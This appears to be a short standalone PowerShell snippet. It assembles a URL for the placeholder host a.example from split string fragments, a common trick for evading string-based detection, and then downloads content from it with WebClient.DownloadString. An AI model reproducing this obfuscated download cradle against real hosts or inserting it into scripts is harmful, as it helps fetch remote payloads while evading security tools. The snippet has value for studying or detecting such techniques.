$p='http://','a.example','/x';$i=0;$o='';while($i -lt $p.Count){$o+=$p[$i];$i++}
$wc = New-Object System.Net.WebClient
$wc.DownloadString($o)
